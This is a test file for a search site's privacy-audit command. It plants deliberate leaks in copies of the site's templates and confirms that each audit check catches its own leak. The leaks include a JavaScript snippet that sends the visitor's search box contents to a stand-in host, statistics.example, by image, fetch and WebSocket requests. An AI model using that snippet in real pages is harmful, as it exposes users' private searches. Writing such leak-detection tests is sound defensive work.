"""`advice privacy-audit`: the site as it is keeps and tells nothing, and each leak is found by the check meant for it.

Two audits are run, each with all that belongs to it: of the site as it is, and of one with a leak for every check.
"""

import json
import signal
import subprocess
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
import typer
from server import PATIENCE, until
from typer.main import get_command

from indexer.console import CANNOT_WORK, DONE, INTERRUPTED, SOME_FAILED, WRONG_USAGE
from search.audit.checks import CHECKS
from search.audit.command import LEAK, finish
from search.audit.model import Check
from search.audit.process import ServerError
from search.audit.run import audit
from search.cli import app

TEMPLATES = Path(__file__).parent.parent / "search" / "templates"
LEAKY_SERVER = Path(__file__).with_name("leaky_server.py")
WALKED = (  # some of the ways that visitors go
    "a suggestion",
    "answer /articles",
    "another /articles",
    "concern /",
    "embed by frame",
    "embed by script",
    "leaving by the keyboard",
    "leaving by the link",
    "nav / kind",
    "nav / page",
    "nav / sort",
    "passages /more anchor",
    "private: nav /private topic",
    "private: passages /articles",
    "topics /topics",
)
ELSEWHERE = '<script src="/embed.js" defer></script><a href="https://helpline.example/">A line</a>'
LEAKY_SCRIPT = """
const box = document.querySelector("form.search #q");
if (box?.value) {
  const asked = `?asked=${encodeURIComponent(box.value)}`;
  localStorage.setItem("last", box.value);
  new Image().src = `http://statistics.example/${asked}`;
  fetch("http://statistics.example/", {method: "POST", mode: "no-cors", body: box.value});
  new WebSocket(`wss://statistics.example/${asked}`);
  if (location.pathname === "/private") history.replaceState(null, "", asked);
}
"""
PLANTED = {  # by check, what it says of the leak that is meant for it
    "the walk itself": "no answer with status 413",
    "server log": "the search word",
    "tracebacks": "the server printed a traceback",
    "files": "asked.gz: the api word, in zlib",
    "response headers": "x-asked of GET /api/v1/search: the api word, in base64",
    "cookies": "the browser has “last” with the search word",
    "page titles": "the title of (private) results: the private word",
    "private addresses": "the address of results: the private word",
    "browser storage": "local storage after results: “last” with the search word",
    "outgoing requests": "a page asks something of http://statistics.example",
    "referers": "/ was told “",
    "connections": "127.0.0.9",
    "process names": "a process: the search word",
}

DYING = """
import os
from search.audit import run

def visit(this, *_):
    for process in this.watch._ports:
        os.kill(process, 9)

run._visit = visit
"""

Command = Callable[..., subprocess.CompletedProcess[str]]


@pytest.fixture(scope="module")
def passed(advice: Command, bundled_index: Path) -> subprocess.CompletedProcess[str]:
    """What the command says of the site as it is."""
    return advice("privacy-audit", "--index", bundled_index, "--json", timeout=280)


@pytest.fixture(scope="module")
def leaks(bundled_index: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Check]:
    """The checks of a site that leaks everywhere: its server, and the owner's templates."""
    folder = tmp_path_factory.mktemp("leaky")
    plant(folder, "results.html", '{{ t("results-title") }} – {{ site.name }}', "{{ question }}")
    plant(folder, "base.html", "<body>", f"<body>{ELSEWHERE}")
    plant(folder, "embed.js", "})();\n", "})();\n" + LEAKY_SCRIPT)
    (folder / "site.toml").write_text('templates = "."\n', encoding="utf-8")
    found = audit(bundled_index, folder / "site.toml", [sys.executable, str(LEAKY_SERVER)])
    return {check.name: check for check in found}


def plant(folder: Path, name: str, place: str, leak: str) -> None:
    """A template of the owner's, which is ours with something else in one place."""
    ours = (TEMPLATES / name).read_text(encoding="utf-8")
    assert ours.count(place) == 1
    (folder / name).write_text(ours.replace(place, leak), encoding="utf-8")


def test_the_site_keeps_and_tells_nothing(passed):
    assert (passed.returncode, passed.stderr) == (0, ""), passed.stdout
    said = json.loads(passed.stdout)
    assert said["ok"]
    assert [check["leaks"] for check in said["checks"]] == [[]] * len(CHECKS)
    assert {check["name"] for check in said["checks"]} == set(PLANTED)


def test_every_check_had_something_to_look_at(passed):
    examined = {check["name"]: check["examined"] for check in json.loads(passed.stdout)["checks"]}
    least = dict.fromkeys(PLANTED, 3) | {"server log": 100, "response headers": 1000, "outgoing requests": 100}
    assert {name: count for name, count in examined.items() if count < least[name]} == {}


def test_visitors_went_every_kind_of_way(passed):
    (walk,) = (check for check in json.loads(passed.stdout)["checks"] if check["name"] == "the walk itself")
    assert [way for way in WALKED if way not in walk["named"]] == []


def test_a_link_to_another_site_is_gone_without_leaving_the_machine(leaks):
    assert {"outside", "private: outside"} <= set(leaks["the walk itself"].named)


@pytest.mark.parametrize("check", PLANTED)
def test_a_planted_leak_is_found_by_its_check(leaks, check):
    assert not leaks[check].ok
    assert [leak for leak in leaks[check].leaks if PLANTED[check] in leak], leaks[check].leaks


@pytest.mark.parametrize(
    "leak", ["what was sent to http://statistics.example", "a request to wss://statistics.example"]
)
def test_what_goes_to_others_in_a_body_or_by_a_socket_is_found(leaks, leak):
    assert [said for said in leaks["outgoing requests"].leaks if f"{leak}: the private word" in said]


def test_leaks_are_printed_a_line_for_each_check(leaks, capfd):
    with pytest.raises(typer.Exit) as ended:
        finish(tuple(leaks.values()), as_json=False)
    lines = capfd.readouterr().out.splitlines()
    assert ended.value.exit_code == LEAK
    assert len(lines) == len(CHECKS)
    assert all(line.startswith("LEAK  ") for line in lines)


@pytest.mark.parametrize(
    ("check", "code"),
    [
        (Check("files", 3, "files", ()), 0),
        (Check("files", 0, "files", ()), LEAK),  # it proves nothing
        (Check("files", 3, "files", ("a.log: the search word",)), LEAK),
    ],
)
def test_the_exit_code_tells_a_leak_and_what_was_not_looked_at(check: Check, code: int, capfd):
    with pytest.raises(typer.Exit) as ended:
        finish([check, Check("cookies", 9, "cookies", ())], as_json=True)
    said = json.loads(capfd.readouterr().out)
    assert ended.value.exit_code == code
    assert (said["ok"], said["checks"][0]["ok"], said["checks"][1]["ok"]) == (not code, not code, True)


def test_the_help_tells_the_exit_code_and_no_other_command_has_it():
    commands = get_command(app).commands
    told = [name for name, command in commands.items() if "4 the audit found a leak" in (command.epilog or "")]
    assert told == ["privacy-audit"]
    assert LEAK not in (DONE, SOME_FAILED, WRONG_USAGE, CANNOT_WORK, INTERRUPTED)


def stopped(environment: dict[str, str], code: str, *args: object, **changed: str) -> str:
    """What `advice privacy-audit` says where it cannot begin: one line."""
    command = [sys.executable, "-c", f"{code}from search.cli import main; main()", "privacy-audit", *map(str, args)]
    done = subprocess.run(command, env=environment | changed, capture_output=True, encoding="utf-8", check=False)
    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (CANNOT_WORK, "", 1), done.stderr
    return done.stderr


def test_without_playwright_or_a_browser_it_says_what_to_install(environment, bundled_index):
    where = ("--index", bundled_index)
    said = stopped(environment, "import sys; sys.modules['playwright'] = None; ", *where)
    assert "pip install 'advice-search[audit]'" in said
    said = stopped(environment, "", *where, PATH="", PLAYWRIGHT_BROWSERS_PATH="0")
    assert "apt-get install chromium" in said


def test_without_an_index_it_says_how_to_build_one(environment, tmp_path):
    assert "advice index" in stopped(environment, "", "--index", tmp_path / "none")


def test_a_server_that_dies_is_told_in_a_line(environment, bundled_index):
    said = stopped(environment, DYING, "--index", bundled_index, http_proxy="http://127.0.0.1:9", no_proxy="")
    assert "the site was not served to the end" in said


def test_who_ends_the_audit_ends_its_server_and_leaves_no_folder(environment, bundled_index):
    command = [sys.executable, "-c", "from search.cli import main; main()", "privacy-audit", "--index", bundled_index]
    with TemporaryDirectory() as name:  # a short one: Chromium has a socket in it, whose name may have 107 bytes
        with subprocess.Popen(command, env=environment | {"TMPDIR": name}) as process:
            logs = partial(Path(name).glob, "advice-audit-*/logs/server")
            until(lambda: any("Serving on" in log.read_text() for log in logs()), 5 * PATIENCE)
            process.terminate()
            assert process.wait(5 * PATIENCE) == 128 + signal.SIGTERM
        assert [path for path in Path(name).iterdir() if "advice-audit" in path.name] == []


def test_a_server_that_does_not_start_is_quoted(bundled_index):
    with pytest.raises(ServerError, match="out of order"):
        audit(bundled_index, command=[sys.executable, "-c", "raise SystemExit('out of order')"])
